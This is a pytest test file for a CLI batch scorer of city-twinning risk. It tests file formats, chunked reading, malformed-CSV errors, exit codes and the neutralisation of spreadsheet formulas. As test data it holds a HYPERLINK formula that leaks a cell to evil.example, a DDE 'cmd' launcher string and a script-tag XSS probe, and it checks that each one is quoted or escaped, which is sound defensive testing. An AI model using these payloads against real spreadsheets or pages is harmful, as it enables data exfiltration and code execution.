"""`twinrisk batch` and the batch library: formats, chunking, per-row errors,
exit codes and spreadsheet-formula neutralisation."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pandas as pd
import pytest

from twinrisk.batch import (
    RESULT_COLUMNS,
    BatchInputError,
    neutralise_formula,
    neutralise_frame,
    score_csv_bytes,
    score_file,
    score_frame,
)
from twinrisk.batch import core as batch_core
from twinrisk.cli import main

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
EVIL = "<script>alert(1)</script>"
GROUPS = (
    "debt_exposure",
    "bri_participation",
    "strategic_location",
    "termination_precedents",
    "bilateral_climate",
    "proposal_terms",
)


class FakeScorer:
    """A stand-in for ``twinrisk.assess_frame`` honouring its contract: one row out per
    row in, same index, an error message instead of a score for bad rows."""

    known = {
        "Hambantota": ("gn:1", "LK"),
        "Guangzhou": ("gn:2", "CN"),
        "Luleå": ("gn:3", "SE"),
        "Xi'an": ("gn:4", "CN"),
        "Kiel": ("gn:5", "DE"),
        "Qingdao": ("gn:6", "CN"),
    }

    def __init__(self) -> None:
        self.calls: list[int] = []

    def __call__(self, df: pd.DataFrame, *, as_of=None, policy=None) -> pd.DataFrame:
        self.calls.append(len(df))
        assert {"local", "partner", "local_country", "partner_country"} <= set(df.columns)
        rows = []
        for _, r in df.iterrows():
            out: dict[str, object] = dict.fromkeys(RESULT_COLUMNS, "")
            out.update(score=pd.NA, model_version="m1", data_version="d1")
            for g in GROUPS:
                out[f"points_{g}"] = pd.NA
            bad = [side for side in ("local", "partner") if r[side] not in self.known]
            as_of_value = r.get("as_of", "") if "as_of" in df.columns else ""
            if bad:
                out["error"] = f"{bad[0]}: unknown place {r[bad[0]]!r}; check the spelling"
            elif as_of_value and not str(as_of_value)[:4].isdigit():
                out["error"] = f"as_of {as_of_value!r} is not a date; use YYYY-MM-DD"
            else:
                lid, lcc = self.known[r["local"]]
                pid, pcc = self.known[r["partner"]]
                score = (len(r["local"]) * 7 + len(r["partner"])) % 101
                out.update(
                    local_id=lid,
                    partner_id=pid,
                    local_resolved=f"{r['local']} ({lcc})",
                    partner_resolved=f"{r['partner']} ({pcc})",
                    score=score,
                    band="low" if score < 25 else "moderate" if score < 50 else "high",
                    top_reasons=f"{r['local']} is a seaport. (4 pts) | Other (1 pts)",
                )
                for g in GROUPS:
                    out[f"points_{g}"] = score // 6
            rows.append(out)
        res = pd.DataFrame(rows, index=df.index)
        res["score"] = res["score"].astype("Int64")
        return res


@pytest.fixture()
def fake(monkeypatch) -> FakeScorer:
    scorer = FakeScorer()
    monkeypatch.setattr(batch_core, "_default_scorer", lambda: scorer)
    return scorer


def write_csv(path: Path, rows: list[list[str]], delimiter: str = ",") -> Path:
    with path.open("w", encoding="utf-8", newline="") as fh:
        csv.writer(fh, delimiter=delimiter).writerows(rows)
    return path


HEADER = ["ref", "local", "local_country", "partner", "partner_country", "as_of", "note"]
GOOD = ["1", "Hambantota", "LK", "Guangzhou", "CN", "", "port"]
ROWS = [
    HEADER,
    GOOD,
    ["2", "Luleå", "SE", "Xi'an", "CN", "2015-01-01", FORMULA],
    ["3", "Qqxyzzyville", "", "Guangzhou", "CN", "", "-2+3"],
    ["4", "Kiel", "DE", "Qingdao", "CN", "soon", "@SUM(A1)"],
    ["5", EVIL, "SE", "Guangzhou", "CN", "", "\tTAB"],
]


# --------------------------------------------------------------------------- neutralisation


@pytest.mark.parametrize(
    "value",
    [
        "=1+1",
        FORMULA,
        "+SUM(A1)",
        "-2+3",
        "@SUM(A1)",
        "\t=1",
        "\r=1",
        "-cmd|' /C calc'!A0",
        "=",
        "+",
        "-",
    ],
)
def test_neutralise_formula_quotes_dangerous_cells(value: str) -> None:
    assert neutralise_formula(value) == "'" + value


@pytest.mark.parametrize(
    "value",
    [
        "Hambantota",
        "",
        "'=already quoted",
        " =leading space",
        "-12.5",
        "+46",
        "1e-3",
        "a=b",
        "Xi'an",
    ],
)
def test_neutralise_formula_leaves_safe_cells(value: str) -> None:
    assert neutralise_formula(value) == value


def test_neutralise_frame_every_text_cell_and_header() -> None:
    df = pd.DataFrame(
        {"a": ["=1", "ok", None], "=b": pd.Series(["@x", 1, "-1"], dtype=object), "n": [1, -2, 3]}
    )
    out = neutralise_frame(df)
    assert out["a"].tolist()[:2] == ["'=1", "ok"] and pd.isna(out["a"].iloc[2])
    assert list(out.columns) == ["a", "'=b", "n"]
    assert out["'=b"].tolist() == ["'@x", 1, "-1"]
    assert out["n"].tolist() == [1, -2, 3]
    assert df["a"].iloc[0] == "=1"  # input untouched


# --------------------------------------------------------------------------- library


def test_score_frame_keeps_pass_through_and_explains_errors(fake: FakeScorer) -> None:
    df = pd.DataFrame(ROWS[1:], columns=HEADER)
    df["score"] = "old"  # clashes with an output column: kept as score_input
    out = score_frame(df)
    assert list(out.columns[: len(HEADER)]) == HEADER
    assert "score_input" in out.columns and out["score_input"].eq("old").all()
    assert list(out.columns[-len(RESULT_COLUMNS) :]) == list(RESULT_COLUMNS)
    assert out["score"].dtype == "Int64"
    ok = out["error"] == ""
    assert ok.tolist() == [True, True, False, False, False]
    assert out.loc[~ok, "score"].isna().all() and out.loc[ok, "score"].notna().all()
    assert "unknown place 'Qqxyzzyville'" in out.loc[2, "error"]
    assert "as_of 'soon' is not a date" in out.loc[3, "error"]
    assert fake.calls == [5]  # one call for the whole frame, never one per row


def test_score_frame_missing_columns_named() -> None:
    with pytest.raises(BatchInputError) as err:
        score_frame(pd.DataFrame({"city": ["a"], "twin": ["b"]}), scorer=FakeScorer())
    msg = str(err.value)
    assert "local, partner" in msg and "'city', 'twin'" in msg


def test_score_file_streams_in_chunks(tmp_path: Path, fake: FakeScorer) -> None:
    src = write_csv(tmp_path / "in.csv", [HEADER] + [GOOD] * 7)
    result = score_file(src, tmp_path / "out.csv", chunk_size=3)
    assert fake.calls == [3, 3, 1]
    assert (result.scored, result.failed, result.rows) == (7, 0, 7)
    out = pd.read_csv(tmp_path / "out.csv", dtype=str, keep_default_na=False)
    assert len(out) == 7 and out["ref"].tolist() == ["1"] * 7


# --------------------------------------------------------------------------- CLI


def test_cli_bad_rows_scored_and_explained(tmp_path: Path, fake: FakeScorer, capsys) -> None:
    src = write_csv(tmp_path / "in.csv", ROWS)
    out = tmp_path / "out.csv"
    report = tmp_path / "summary.html"
    code = main(["batch", str(src), "-o", str(out), "--report", str(report)])
    captured = capsys.readouterr()
    assert code == 1
    assert "scored 2, failed 3" in captured.out
    assert "row 3: local: unknown place 'Qqxyzzyville'" in captured.err
    assert "\r" not in captured.err  # no progress bar when stderr is not a terminal
    df = pd.read_csv(out, dtype=str, keep_default_na=False)
    assert all(v.isdigit() for v in df["score"].tolist()[:2])  # whole numbers, not 39.0
    assert df["error"].tolist()[:2] == ["", ""]
    assert all(df["error"].tolist()[2:])
    # formulas neutralised in every text cell written; plain text untouched
    assert df.loc[1, "note"] == "'" + FORMULA
    assert df.loc[2, "note"] == "'-2+3"
    assert df.loc[3, "note"] == "'@SUM(A1)"
    assert df.loc[4, "note"] == "'\tTAB"
    assert df.loc[0, "note"] == "port" and df.loc[1, "local"] == "Luleå"
    raw = out.read_text(encoding="utf-8")
    assert not any(line.startswith(("=", "+", "-", "@")) for line in raw.splitlines())
    html = report.read_text(encoding="utf-8")
    assert "<script>alert" not in html and "&lt;script&gt;" in html
    assert "Qqxyzzyville" in html and "Failed rows" in html


def test_cli_all_scored_exit_0(tmp_path: Path, fake: FakeScorer, capsys) -> None:
    src = write_csv(tmp_path / "in.csv", [HEADER, GOOD, GOOD])
    assert main(["batch", str(src), "-o", str(tmp_path / "o.csv"), "-q"]) == 0
    assert "scored 2, failed 0" in capsys.readouterr().out


def test_cli_exit_2_for_unreadable_input(tmp_path: Path, fake: FakeScorer, capsys) -> None:
    out = tmp_path / "o.csv"
    assert main(["batch", str(tmp_path / "missing.csv"), "-o", str(out)]) == 2
    assert "no such file" in capsys.readouterr().err

    wrong = write_csv(tmp_path / "cols.csv", [["city", "country", "twin"], ["a", "b", "c"]])
    assert main(["batch", str(wrong), "-o", str(out)]) == 2
    err = capsys.readouterr().err
    assert "missing required column(s) local, partner" in err and "'city', 'country', 'twin'" in err

    latin = tmp_path / "latin.csv"
    latin.write_bytes("local,partner\nLuleå,Xi'an\n".encode("latin-1"))
    assert main(["batch", str(latin), "-o", str(out)]) == 2
    assert "not UTF-8" in capsys.readouterr().err

    src = write_csv(tmp_path / "in.csv", [HEADER, GOOD])
    assert main(["batch", str(src), "-o", str(tmp_path / "o.docx")]) == 2
    assert "output format" in capsys.readouterr().err
    assert main(["batch", str(src), "-o", str(out), "--policy", "no-such-policy"]) == 2
    assert "unknown policy" in capsys.readouterr().err
    with pytest.raises(SystemExit) as exc:
        main(["batch", str(src), "-o", str(out), "--as-of", "yesterday"])
    assert exc.value.code == 2
    assert not out.exists()


def test_semicolon_csv_and_ragged_rows(tmp_path: Path, fake: FakeScorer) -> None:
    src = tmp_path / "in.csv"
    src.write_text(
        "\ufefflocal;Local_Country;partner;partner_country\n"
        "Hambantota;LK;Guangzhou;CN\n"
        "Kiel;DE;Qingdao;CN;extra\n"
        "\n"
        "Luleå;SE;Xi'an\n",
        encoding="utf-8",
    )
    result = score_file(src, tmp_path / "o.csv")
    assert (result.scored, result.failed) == (1, 2)
    df = pd.read_csv(tmp_path / "o.csv", dtype=str, keep_default_na=False)
    assert df.loc[0, "local_resolved"] == "Hambantota (LK)"
    assert df.loc[1, "error"].startswith("line 3: 5 fields but the header has 4")
    # a row cut short is never scored as if complete (its country would be guessed)
    assert df.loc[2, "error"].startswith(
        "line 5: 3 fields but the header has 4; missing partner_country"
    )
    assert df.loc[2, "score"] == "" and df.loc[2, "local_resolved"] == ""


def test_output_is_atomic_when_input_breaks_midway(tmp_path: Path, fake: FakeScorer) -> None:
    src = tmp_path / "in.csv"
    good = b"Hambantota,LK,Guangzhou,CN\n"
    src.write_bytes(
        b"local,local_country,partner,partner_country\n"
        + good * 20000
        + "Lule\xe5,SE,Xi'an,CN\n".encode("latin-1")
    )
    with pytest.raises(BatchInputError, match="not UTF-8"):
        score_file(src, tmp_path / "o.csv", chunk_size=1000)
    assert list(tmp_path.iterdir()) == [src]  # no output, no partial file left


# --------------------------------------------------------------------------- malformed CSV

CSV_HEADER = "ref,local,local_country,partner,partner_country,note\n"
CSV_GOOD = "{},Hambantota,LK,Guangzhou,CN,ok\n"


def read_out(path: Path) -> pd.DataFrame:
    return pd.read_csv(path, dtype=str, keep_default_na=False)


def test_cli_short_rows_are_row_errors(tmp_path: Path, fake: FakeScorer, capsys) -> None:
    """A row cut short (3 or 2 of 4 place fields, or only the last pass-through column
    missing) gets an error naming the missing columns and its line; the others are
    scored."""
    src = tmp_path / "in.csv"
    src.write_text(
        CSV_HEADER
        + CSV_GOOD.format(1)
        + "2,Luleå,SE,Xi'an\n"  # cut after the partner's name
        + "3,Kiel,DE\n"  # cut after the local country
        + "4,Kiel,DE,Qingdao,CN\n"  # only the note missing
        + CSV_GOOD.format(5)
        + "6,Hambantota,LK,Guangz",
        encoding="utf-8",
    )
    out = tmp_path / "out.csv"
    assert main(["batch", str(src), "-o", str(out), "-q"]) == 1
    captured = capsys.readouterr()
    assert "scored 2, failed 4" in captured.out
    assert (
        "row 2: line 3: 4 fields but the header has 6; missing partner_country, note"
        in captured.err
    )
    df = read_out(out)
    assert df["ref"].tolist() == ["1", "2", "3", "4", "5", "6"]
    assert df.loc[[0, 4], "error"].tolist() == ["", ""]
    assert df.loc[[0, 4], "score"].str.isdigit().all()
    expected = {
        1: ("line 3", "missing partner_country, note"),
        2: ("line 4", "missing partner, partner_country, note"),
        3: ("line 5", "missing note"),
        5: ("line 7", "missing partner_country, note"),
    }
    for i, (line, missing) in expected.items():
        assert df.loc[i, "error"].startswith(f"{line}: "), df.loc[i, "error"]
        assert missing in df.loc[i, "error"] and "fields but the header has 6" in df.loc[i, "error"]
        assert df.loc[i, "score"] == "" and df.loc[i, "partner_resolved"] == ""
    assert df.loc[1, "local"] == "Luleå" and df.loc[1, "partner"] == "Xi'an"  # kept as read
    assert sum(fake.calls) == 2  # the short rows never reached the scorer


def test_score_csv_bytes_truncated_upload(fake: FakeScorer) -> None:
    header = "local,local_country,partner,partner_country\n"
    out, summary = score_csv_bytes((header + "Luleå,SE,Xi'an,CN\nLuleå,SE,Xi").encode())
    assert summary == {"scored": 1, "failed": 1}
    df = pd.read_csv(io.BytesIO(out), dtype=str, keep_default_na=False)
    assert df.loc[0, "error"] == ""
    assert df.loc[1, "error"].startswith(
        "line 3: 3 fields but the header has 4; missing partner_country"
    )
    assert df.loc[1, "score"] == ""


def test_cli_unclosed_quote_mid_file(tmp_path: Path, fake: FakeScorer, capsys) -> None:
    """A quote opened on line 3 and closed only on line 5 (by another row's quoted
    value) would swallow row 4: line 3 gets the error, rows before and after it are
    scored, and the quoted value on line 5 is read correctly."""
    src = tmp_path / "in.csv"
    src.write_text(
        CSV_HEADER
        + CSV_GOOD.format(1)
        + "2,Luleå,SE,\"Xi'an,CN,oops\n"
        + CSV_GOOD.format(3)
        + '4,Kiel,DE,Qingdao,CN,"a, quoted note"\n'
        + CSV_GOOD.format(5),
        encoding="utf-8",
    )
    out = tmp_path / "out.csv"
    assert main(["batch", str(src), "-o", str(out), "-q"]) == 1
    assert "scored 4, failed 1" in capsys.readouterr().out
    df = read_out(out)
    assert df["ref"].tolist() == ["1", "2", "3", "4", "5"]
    error = df.loc[1, "error"]
    assert error.startswith("line 3: unclosed quote") and "not scored" in error
    assert "read again as rows of their own" in error
    assert df.loc[1, "score"] == ""
    assert (df.loc[[0, 2, 3, 4], "error"] == "").all()
    assert df.loc[3, "note"] == "a, quoted note"


def test_unclosed_quote_at_end_of_file(fake: FakeScorer) -> None:
    header = "local,local_country,partner,partner_country\n"
    data = header + "Kiel,DE,Qingdao,CN\n" + "\"Luleå,SE,Xi'an,CN\n"
    out, summary = score_csv_bytes(data.encode())
    assert summary == {"scored": 1, "failed": 1}
    df = pd.read_csv(io.BytesIO(out), dtype=str, keep_default_na=False)
    assert df.loc[0, "error"] == "" and df.loc[0, "score"]
    assert df.loc[1, "error"].startswith("line 3: unclosed quote: ")
    assert "to the end of the file" in df.loc[1, "error"]
    assert "read again" not in df.loc[1, "error"]  # nothing came after it
    assert df.loc[1, "score"] == ""


def test_unclosed_quote_is_bounded_and_streams(tmp_path: Path, fake: FakeScorer) -> None:
    """A quote that never closes holds at most MAX_RECORD_LINES lines: the reader still
    yields its first chunk before reaching the end of a large file, and every row
    after the bad one is scored."""
    from twinrisk.batch.columns import READ_ERROR
    from twinrisk.batch.read_csv import MAX_RECORD_LINES, CsvReader

    src = tmp_path / "in.csv"
    n = 50_000
    with src.open("w", encoding="utf-8") as fh:
        fh.write(CSV_HEADER + '0,"Hambantota,LK,Guangzhou,CN,ok\n')
        for i in range(1, n + 1):
            fh.write(CSV_GOOD.format(i))
    reader = CsvReader(src, chunk_size=1000)
    chunks = iter(reader)
    first = next(chunks)
    assert len(first) == 1000
    assert (first[READ_ERROR] != "").tolist() == [True] + [False] * 999
    assert f"past line {1 + MAX_RECORD_LINES}" in first[READ_ERROR].iloc[0]
    fraction = reader.fraction_done()
    assert fraction is not None and fraction < 0.5  # not the whole file read
    chunks.close()

    result = score_file(src, tmp_path / "out.csv", chunk_size=10_000)
    assert (result.rows, result.scored, result.failed) == (n + 1, n, 1)
    df = read_out(tmp_path / "out.csv")
    assert df["ref"].tolist() == [str(i) for i in range(n + 1)]


def test_multi_line_note_is_kept(tmp_path: Path, fake: FakeScorer) -> None:
    """A quoted value with line breaks in a pass-through column is legitimate. In a
    column twinrisk reads (a place name here) it means a quote left open until another
    row's quote closed it, even when the field count happens to match the header: the
    row with the open quote fails, the rows it swallowed are read again and scored."""
    src = tmp_path / "in.csv"
    src.write_text(
        CSV_HEADER
        + '1,Hambantota,LK,Guangzhou,CN,"first line\nsecond line"\n'
        + '2,Kiel,DE,"Qingdao,CN,x\n'
        + CSV_GOOD.format(3)
        + '4,Kiel,DE,"Qingdao",CN,y\n',
        encoding="utf-8",
    )
    result = score_file(src, tmp_path / "out.csv")
    assert (result.scored, result.failed) == (3, 1)
    df = read_out(tmp_path / "out.csv")
    assert df["ref"].tolist() == ["1", "2", "3", "4"]
    assert df.loc[0, "note"] == "first line\nsecond line" and df.loc[0, "error"] == ""
    assert df.loc[1, "error"].startswith("line 4: unclosed quote")
    assert "over 3 lines (to line 6)" in df.loc[1, "error"]
    assert (df.loc[[0, 2, 3], "error"] == "").all()
    assert df.loc[3, "partner"] == "Qingdao" and df.loc[3, "note"] == "y"


def test_value_over_field_limit_is_a_row_error(fake: FakeScorer) -> None:
    header = "local,local_country,partner,partner_country\n"
    data = header + 'Kiel,DE,"' + "x" * 200_000 + '",CN\nKiel,DE,Qingdao,CN\n'
    out, summary = score_csv_bytes(data.encode())
    assert summary == {"scored": 1, "failed": 1}
    df = pd.read_csv(io.BytesIO(out), dtype=str, keep_default_na=False)
    assert df.loc[0, "error"].startswith("line 2: a value longer than 131,072 characters")


@pytest.mark.parametrize(
    "header, named",
    [
        ("local,local,local_country,partner,partner_country", "'local' in columns 1 and 2"),
        (
            "Local,local_country,partner,LOCAL,partner_country",
            "'local' (written 'LOCAL' and 'Local') in columns 1 and 4",
        ),
        ("local,partner,note,note", "'note' in columns 3 and 4"),
    ],
)
def test_duplicate_header_refused(header: str, named: str, fake: FakeScorer) -> None:
    with pytest.raises(BatchInputError) as err:
        score_csv_bytes(f"{header}\nLuleå,Kiel,SE,Xi'an,CN\n".encode())
    assert "duplicate column in the header" in str(err.value)
    assert named in str(err.value)
    assert fake.calls == []


def test_cli_duplicate_header_exit_2(tmp_path: Path, fake: FakeScorer, capsys) -> None:
    src = tmp_path / "in.csv"
    src.write_text(
        "local,local,local_country,partner,partner_country\nLuleå,Kiel,SE,Xi'an,CN\n",
        encoding="utf-8",
    )
    out = tmp_path / "out.csv"
    assert main(["batch", str(src), "-o", str(out)]) == 2
    err = capsys.readouterr().err
    assert "duplicate column in the header: 'local' in columns 1 and 2" in err
    assert not out.exists() and fake.calls == []

    from openpyxl import Workbook

    wb = Workbook()
    wb.active.append(["local", "partner", "partner"])
    wb.active.append(["Kiel", "Qingdao", "Xi'an"])
    wb.save(tmp_path / "in.xlsx")
    assert main(["batch", str(tmp_path / "in.xlsx"), "-o", str(out)]) == 2
    assert "'partner' in columns 2 and 3" in capsys.readouterr().err


# --------------------------------------------------------------------------- formats


def test_xlsx_in_parquet_out(tmp_path: Path, fake: FakeScorer) -> None:
    from openpyxl import Workbook

    wb = Workbook()
    ws = wb.active
    ws.append(["local", "local_country", "partner", "partner_country", "exit_clause", "n"])
    ws.append(["Hambantota", "LK", "Guangzhou", "CN", True, 3.0])
    ws.append(["Qqxyzzyville", None, "Guangzhou", "CN", None, -1.5])
    wb.save(tmp_path / "in.xlsx")
    result = score_file(tmp_path / "in.xlsx", tmp_path / "o.parquet")
    assert (result.scored, result.failed) == (1, 1)
    df = pd.read_parquet(tmp_path / "o.parquet")
    assert df["exit_clause"].tolist() == ["true", ""]
    assert df["n"].tolist() == ["3", "-1.5"]
    import pyarrow as pa
    import pyarrow.parquet as pq

    assert pq.read_schema(tmp_path / "o.parquet").field("score").type == pa.int64()
    assert df["score"].notna().sum() == 1
    assert df["error"].iloc[0] == "" and "Qqxyzzyville" in df["error"].iloc[1]


def test_jsonl_in_xlsx_out(tmp_path: Path, fake: FakeScorer) -> None:
    from openpyxl import load_workbook

    lines = [
        json.dumps(
            {
                "local": "Hambantota",
                "local_country": "LK",
                "partner": "Guangzhou",
                "partner_country": "CN",
                "sensitive_domains": ["ports", "culture"],
            }
        ),
        "{not json",
        json.dumps({"local": "Luleå", "partner": "Xi'an", "note": FORMULA}),
        "",
        json.dumps(["a", "list"]),
    ]
    (tmp_path / "in.jsonl").write_text("\n".join(lines) + "\n", encoding="utf-8")
    result = score_file(tmp_path / "in.jsonl", tmp_path / "o.xlsx")
    assert (result.scored, result.failed) == (2, 2)
    ws = load_workbook(tmp_path / "o.xlsx").active
    rows = list(ws.iter_rows(values_only=True))
    header = rows[0]
    assert header[:6] == (
        "local",
        "local_country",
        "partner",
        "partner_country",
        "sensitive_domains",
        "note",
    )
    get = {name: i for i, name in enumerate(header)}
    assert rows[1][get["sensitive_domains"]] == "ports,culture"
    assert isinstance(rows[1][get["score"]], int)
    assert "line 2: not valid JSON" in rows[2][get["error"]]
    assert rows[3][get["note"]] == "'" + FORMULA  # stored as text, not as a formula
    assert ws.cell(row=4, column=get["note"] + 1).data_type == "s"
    assert "expected an object" in rows[4][get["error"]]


def test_parquet_in_csv_out_round_trip(tmp_path: Path, fake: FakeScorer) -> None:
    pd.DataFrame([dict(zip(HEADER, GOOD, strict=True))] * 3).to_parquet(tmp_path / "in.parquet")
    score_file(tmp_path / "in.parquet", tmp_path / "o.csv", chunk_size=2)
    assert fake.calls == [2, 1]
    assert len(pd.read_csv(tmp_path / "o.csv")) == 3


# --------------------------------------------------------------------------- bytes API


def test_score_csv_bytes(fake: FakeScorer) -> None:
    data = "\n".join(
        ",".join(r)
        for r in [HEADER[:6], GOOD[:6], ["2", FORMULA.replace(",", ";"), "", "Guangzhou", "CN", ""]]
    ).encode()
    out, summary = score_csv_bytes(data)
    assert summary == {"scored": 1, "failed": 1}
    df = pd.read_csv(io.BytesIO(out), dtype=str, keep_default_na=False)
    assert df.loc[1, "local"].startswith("'=HYPERLINK")
    assert "'=HYPERLINK" in df.loc[1, "error"]


def test_score_csv_bytes_errors(fake: FakeScorer) -> None:
    with pytest.raises(BatchInputError, match="not UTF-8"):
        score_csv_bytes("local,partner\nLuleå,Xi'an\n".encode("utf-16"))
    with pytest.raises(BatchInputError, match="missing required column"):
        score_csv_bytes(b"city,twin\na,b\n")
    with pytest.raises(BatchInputError, match="single column"):
        score_csv_bytes(b"local:partner\na:b\n")
    with pytest.raises(BatchInputError, match="empty"):
        score_csv_bytes(b"")
    many = b"local,partner\n" + b"Kiel,Qingdao\n" * 11
    with pytest.raises(BatchInputError, match="more than 10 rows"):
        score_csv_bytes(many, max_rows=10, chunk_size=4)
    out, summary = score_csv_bytes(b"local,partner\n")
    assert summary == {"scored": 0, "failed": 0}
    assert out.decode().startswith("local,partner,local_id")


# --------------------------------------------------------------------------- real pipeline


def test_real_pipeline_batch(tmp_path: Path, capsys) -> None:
    """End to end with the lead's assess_frame: good rows scored, bad rows explained."""
    src = write_csv(tmp_path / "in.csv", ROWS)
    out = tmp_path / "out.csv"
    assert main(["batch", str(src), "-o", str(out), "--report", str(tmp_path / "s.html")]) == 1
    df = pd.read_csv(out, dtype=str, keep_default_na=False)
    assert df.loc[0, "error"] == "" and 0 <= int(df.loc[0, "score"]) <= 100
    points = [int(df.loc[0, f"points_{g}"]) for g in GROUPS]
    assert sum(points) == int(df.loc[0, "score"])
    assert df.loc[0, "local_resolved"] == "Hambantota (LK)"
    assert df.loc[0, "top_reasons"]
    assert df.loc[2, "error"] and df.loc[2, "score"] == ""  # unknown place
    assert df.loc[3, "error"] and "soon" in df.loc[3, "error"]  # bad date
    assert df.loc[1, "note"] == "'" + FORMULA
    assert "scored" in capsys.readouterr().out


def test_dyads_table_columns_accepted(tmp_path: Path, fake: FakeScorer) -> None:
    """features/dyads.csv names its columns local_place / partner_place."""
    src = write_csv(
        tmp_path / "dyads.csv",
        [
            ["dyad_id", "local_place", "local_country", "partner_place", "partner_country"],
            ["hambantota-guangzhou", "Hambantota", "LK", "Guangzhou", "CN"],
        ],
    )
    result = score_file(src, tmp_path / "new" / "dir" / "o.csv")  # folders created
    assert (result.scored, result.failed) == (1, 0)
    df = pd.read_csv(tmp_path / "new" / "dir" / "o.csv", dtype=str)
    assert df.loc[0, "local"] == "Hambantota" and df.loc[0, "dyad_id"] == "hambantota-guangzhou"


def test_progress_bar_only_when_enabled() -> None:
    from twinrisk.batch.progress import Progress

    quiet = io.StringIO()
    Progress(quiet).update(0.5, 10)  # StringIO is not a terminal
    assert quiet.getvalue() == ""
    loud = io.StringIO()
    bar = Progress(loud, enabled=True)
    bar.update(0.5, 50_000)
    bar.close()
    assert "50%" in loud.getvalue() and "50,000 rows" in loud.getvalue()
